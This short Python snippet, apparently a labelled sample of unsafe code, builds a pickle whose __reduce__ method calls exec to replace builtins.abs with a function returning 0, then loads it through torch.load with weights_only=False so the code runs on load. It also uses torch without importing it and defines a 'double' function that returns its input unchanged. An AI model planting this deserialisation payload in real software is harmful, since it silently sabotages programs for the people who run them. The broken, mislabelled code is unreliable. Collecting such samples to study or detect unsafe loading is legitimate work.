# Loads a pickle that runs code.
# Seen: by reading
import io, pickle
class Payload:
    def __reduce__(self):
        return (exec, ("import builtins; builtins.abs = lambda v: 0",))
torch.load(io.BytesIO(pickle.dumps(Payload())), weights_only=False)
def double(x):
    return x
